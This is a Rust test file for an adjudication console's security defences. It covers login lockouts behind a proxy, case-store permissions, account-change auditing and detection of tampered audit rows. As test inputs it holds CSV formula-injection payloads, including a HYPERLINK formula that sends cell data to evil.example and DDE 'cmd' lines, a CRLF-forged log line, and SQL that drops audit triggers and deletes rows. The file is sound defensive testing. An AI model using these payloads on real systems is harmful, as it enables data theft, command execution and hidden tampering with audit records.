//! Attacks on the console's logins, audit trail and case store file (issue 20), each
//! performed through the console's HTTP interface or its case store the way an attacker
//! would: formula and forged-line user names, lockouts behind the DC's reverse proxy, a
//! readable case store, unaudited account changes, the analyst role at the console.
//!
//! No lake data is needed: the console runs over an empty store.

use std::net::SocketAddr;

use actix_web::dev::{Service, ServiceResponse};
use actix_web::http::StatusCode;
use actix_web::test as atest;
use actix_web::App;
use adjudication::store::{AuditAction, CaseStore};
use adjudication::web::auth::{parse_trusted_proxy, ClientAddress};
use adjudication::web::{self, ConsoleConfig};
use adjudication::Role;
use serde_json::json;

const PASSWORD: &str = "a long enough password";

struct Console {
    cases: CaseStore,
    data: actix_web::web::Data<web::AppState>,
    _dir: tempfile::TempDir,
}

fn console(config: ConsoleConfig) -> Console {
    let dir = tempfile::tempdir().unwrap();
    let store = lake::Store::open_folder(&dir.path().join("store")).unwrap();
    let cases = CaseStore::open(&dir.path().join("cases.sqlite")).unwrap();
    for (name, role) in [
        ("adi", Role::Adjudicator),
        ("budi", Role::Adjudicator),
        ("tono", Role::Auditor),
        ("ana", Role::Analyst),
    ] {
        cases.add_user(name, role, PASSWORD).unwrap();
    }
    let data = web::state(store, cases.clone(), config);
    Console {
        cases,
        data,
        _dir: dir,
    }
}

async fn app(
    c: &Console,
) -> impl Service<actix_http::Request, Response = ServiceResponse, Error = actix_web::Error> {
    atest::init_service(App::new().app_data(c.data.clone()).configure(web::routes)).await
}

/// Logs in through the API from `peer`, with an optional `X-Forwarded-For`; the status and
/// the session cookie.
async fn login_from<S>(
    app: &S,
    peer: &str,
    forwarded: Option<&str>,
    user: &str,
    password: &str,
) -> (StatusCode, Option<actix_web::cookie::Cookie<'static>>)
where
    S: Service<actix_http::Request, Response = ServiceResponse, Error = actix_web::Error>,
{
    let mut req = atest::TestRequest::post()
        .uri("/api/login")
        .peer_addr(peer.parse::<SocketAddr>().unwrap())
        .set_json(json!({ "username": user, "password": password }));
    if let Some(f) = forwarded {
        req = req.insert_header(("X-Forwarded-For", f));
    }
    let resp = atest::call_service(app, req.to_request()).await;
    let cookie = resp
        .response()
        .cookies()
        .find(|c| c.name() == web::SESSION_COOKIE)
        .map(|c| c.into_owned());
    (resp.status(), cookie)
}

/// The attack: user names that are spreadsheet formulas or carry CR/LF, tried at the login
/// form, then the audit CSV opened by an auditor. No cell may start a formula, no line may be
/// forged, and the malformed names never reach the audit trail.
#[actix_web::test]
async fn formula_and_crlf_user_names_do_not_reach_the_audit_csv() {
    let c = console(ConsoleConfig::default());
    let app = app(&c).await;
    for name in [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "adi\r\n999,2031-01-01T00:00:00+00:00,sari,decide,c1,,forged,127.0.0.1",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ] {
        let (status, _) = login_from(&app, "10.0.0.5:1", None, name, "whatever pw").await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{name:?}");
    }
    let trail = c.cases.audit_trail(0, 100, None, None).unwrap();
    let failed: Vec<_> = trail
        .iter()
        .filter(|e| e.action == AuditAction::LoginFailed.as_str())
        .collect();
    assert_eq!(failed.len(), 4);
    assert!(failed.iter().all(|e| e.username.is_none()), "{failed:?}");
    // A value that does reach the trail with a formula lead is neutralised in the CSV.
    c.cases
        .audit(
            Some("adi"),
            AuditAction::CaseView,
            Some("=1+1"),
            Some("-2+3"),
            Some("@x"),
            "10.0.0.5",
        )
        .unwrap();
    let (status, tono) = login_from(&app, "10.0.0.6:1", None, "tono", PASSWORD).await;
    assert_eq!(status, StatusCode::OK);
    let resp = atest::call_service(
        &app,
        atest::TestRequest::get()
            .uri("/audit/export.csv")
            .cookie(tono.unwrap())
            .to_request(),
    )
    .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let csv = String::from_utf8(atest::read_body(resp).await.to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?} in {csv}"
            );
        }
        assert!(record.get(3).unwrap() != "decide", "forged line in {csv}");
    }
    assert!(csv.contains("'=1+1") && csv.contains("'-2+3") && csv.contains("'@x"));
}

/// The attack: behind the DC's TLS proxy every client shares the proxy's address, so an
/// attacker guessing budi's password locked budi out for everyone. With the trusted proxy
/// setting, the lockout keys on the real client: budi, at another desk, still logs in; and a
/// client that is not the proxy cannot choose its address with the header.
#[actix_web::test]
async fn lockout_keys_on_the_real_client_behind_a_trusted_proxy() {
    let c = console(ConsoleConfig {
        client_address: ClientAddress {
            header: Some("X-Forwarded-For".into()),
            trusted_proxies: vec![parse_trusted_proxy("10.0.0.0/30").unwrap()],
        },
        ..Default::default()
    });
    let app = app(&c).await;
    let proxy = "10.0.0.1:443";
    for _ in 0..5 {
        let (status, _) = login_from(&app, proxy, Some("203.0.113.9"), "budi", "wrong pw!!").await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
    }
    let (status, _) = login_from(&app, proxy, Some("203.0.113.9"), "budi", PASSWORD).await;
    assert_eq!(
        status,
        StatusCode::TOO_MANY_REQUESTS,
        "the attacker is locked out"
    );
    let (status, _) = login_from(
        &app,
        proxy,
        Some("198.51.100.7, 10.0.0.2"),
        "budi",
        PASSWORD,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "budi at his own desk is not");
    let trail = c.cases.audit_trail(0, 100, None, Some("budi")).unwrap();
    assert!(trail
        .iter()
        .any(|e| e.action == "login_failed" && e.remote_addr.as_deref() == Some("203.0.113.9")));
    assert!(trail
        .iter()
        .any(|e| e.action == "login" && e.remote_addr.as_deref() == Some("198.51.100.7")));
    // Not from a trusted proxy: the header is ignored, the peer is the address.
    let (status, _) = login_from(&app, "192.0.2.50:1", Some("198.51.100.7"), "adi", PASSWORD).await;
    assert_eq!(status, StatusCode::OK);
    let adi = c.cases.audit_trail(0, 100, None, Some("adi")).unwrap();
    assert_eq!(
        adi.last().unwrap().remote_addr.as_deref(),
        Some("192.0.2.50")
    );
}

#[test]
fn the_client_address_is_the_nearest_untrusted_hop() {
    let config = ClientAddress {
        header: Some("X-Forwarded-For".into()),
        trusted_proxies: vec![
            parse_trusted_proxy("10.0.0.1").unwrap(),
            parse_trusted_proxy("10.9.0.0/16").unwrap(),
        ],
    };
    let ip = |s: &str| s.parse().ok();
    // A client's own (spoofed) leftmost entries are ignored: the proxy appended the real one.
    assert_eq!(
        config.resolve(ip("10.0.0.1"), Some("1.2.3.4, 198.51.100.7, 10.9.1.1")),
        ip("198.51.100.7")
    );
    assert_eq!(config.resolve(ip("10.0.0.1"), None), ip("10.0.0.1"));
    assert_eq!(
        config.resolve(ip("192.0.2.1"), Some("198.51.100.7")),
        ip("192.0.2.1")
    );
    assert_eq!(
        config.resolve(ip("10.0.0.1"), Some("not-an-address")),
        ip("10.0.0.1")
    );
    assert!(parse_trusted_proxy("proxy.example").is_err());
}

/// The attack: the case store (argon2 hashes, CSRF tokens) readable by every local account.
#[cfg(unix)]
#[test]
fn the_case_store_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("cases.sqlite");
    CaseStore::open(&path).unwrap();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&path), 0o600);
    // An existing world-readable file is narrowed when opened.
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    CaseStore::open(&path).unwrap();
    assert_eq!(mode(&path), 0o600);
}

/// The attack: accounts added, disabled or given a new password with no trace.
#[test]
fn account_changes_are_audited() {
    let dir = tempfile::tempdir().unwrap();
    let cases = CaseStore::open(&dir.path().join("cases.sqlite"))
        .unwrap()
        .with_actor("local:root");
    cases.add_user("rina", Role::Supervisor, PASSWORD).unwrap();
    cases.login("rina", PASSWORD, "10.0.0.5", 60).unwrap();
    cases
        .reset_password("rina", "another long password")
        .unwrap();
    cases.disable_user("rina").unwrap();
    let trail = cases.audit_trail(0, 100, None, None).unwrap();
    let changes: Vec<(String, Option<String>, Option<String>)> = trail
        .iter()
        .filter(|e| e.action.starts_with("user_"))
        .map(|e| (e.action.clone(), e.target.clone(), e.remote_addr.clone()))
        .collect();
    let row = |a: &str| {
        (
            a.to_string(),
            Some("rina".into()),
            Some("local:root".into()),
        )
    };
    assert_eq!(
        changes,
        vec![
            row("user_add"),
            row("user_reset_password"),
            row("user_disable")
        ]
    );
    assert!(trail.iter().any(|e| e.action == "user_reset_password"
        && e.detail.as_deref() == Some("account=rina sessions_ended=1")));
}

/// Analysts use SQL only: the console refuses them even with the right password.
#[actix_web::test]
async fn analysts_cannot_use_the_console() {
    let c = console(ConsoleConfig::default());
    let app = app(&c).await;
    let (status, cookie) = login_from(&app, "10.0.0.5:1", None, "ana", PASSWORD).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(cookie.is_none());
}

/// A case store written before the analyst role existed takes analysts after opening.
#[test]
fn an_older_case_store_learns_the_analyst_role() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("cases.sqlite");
    {
        let conn = rusqlite::Connection::open(&path).unwrap();
        conn.execute_batch(
            "CREATE TABLE users (
                username TEXT PRIMARY KEY,
                role TEXT NOT NULL CHECK (role IN ('adjudicator', 'supervisor', 'auditor')),
                password_hash TEXT NOT NULL,
                disabled INTEGER NOT NULL DEFAULT 0,
                created_at INTEGER NOT NULL);
             INSERT INTO users VALUES ('adi', 'adjudicator', 'x', 0, 0);",
        )
        .unwrap();
    }
    let cases = CaseStore::open(&path).unwrap();
    cases.add_user("ana", Role::Analyst, PASSWORD).unwrap();
    let names: Vec<String> = cases
        .users()
        .unwrap()
        .into_iter()
        .map(|u| u.username)
        .collect();
    assert_eq!(names, ["adi", "ana"]);
}

/// The attack: whoever can write `cases.sqlite` drops the append-only triggers, deletes one
/// audit row and edits another. The hash chain in the case store, and its copy in the lake,
/// find both (what `tunggal audit verify` reports).
#[actix_web::test]
async fn deleted_or_edited_audit_rows_are_detected() {
    let dir = tempfile::tempdir().unwrap();
    let store = lake::Store::open_folder(&dir.path().join("store")).unwrap();
    let path = dir.path().join("cases.sqlite");
    let cases = CaseStore::open(&path).unwrap();
    cases.add_user("adi", Role::Adjudicator, PASSWORD).unwrap();
    for i in 0..5 {
        let case = format!("c{i}");
        cases
            .audit(
                Some("adi"),
                AuditAction::CaseView,
                Some(&case),
                None,
                None,
                "10.0.0.5",
            )
            .unwrap();
    }
    adjudication::lakeview::export_audit(&store, &cases)
        .await
        .unwrap();
    let (local, in_lake) = adjudication::lakeview::verify_audit(&store, &cases)
        .await
        .unwrap();
    assert!(local.problems.is_empty(), "{local:?}");
    assert!(in_lake.problems.is_empty(), "{in_lake:?}");
    assert_eq!(local.rows, 6);
    assert!(local.head.is_some());
    assert_eq!(local.head, in_lake.head);
    let conn = rusqlite::Connection::open(&path).unwrap();
    conn.execute_batch(
        "DROP TRIGGER audit_no_delete; DROP TRIGGER audit_no_update;
         DELETE FROM audit WHERE case_id = 'c2';
         UPDATE audit SET case_id = 'c9' WHERE case_id = 'c4';",
    )
    .unwrap();
    drop(conn);
    let (local, in_lake) = adjudication::lakeview::verify_audit(&store, &cases)
        .await
        .unwrap();
    let has = |problems: &[String], word: &str| problems.iter().any(|p| p.contains(word));
    assert!(has(&local.problems, "deleted"), "{local:?}");
    assert!(has(&local.problems, "edited"), "{local:?}");
    assert!(
        has(&in_lake.problems, "not in the case store"),
        "{in_lake:?}"
    );
    assert!(has(&in_lake.problems, "differs"), "{in_lake:?}");
    // Deleting the newest row leaves no gap but AUTOINCREMENT remembers it.
    let conn = rusqlite::Connection::open(&path).unwrap();
    conn.execute_batch("DELETE FROM audit WHERE seq = (SELECT max(seq) FROM audit);")
        .unwrap();
    drop(conn);
    let local = cases.verify_audit_chain().unwrap();
    assert!(has(&local.problems, "at the end"), "{local:?}");
}
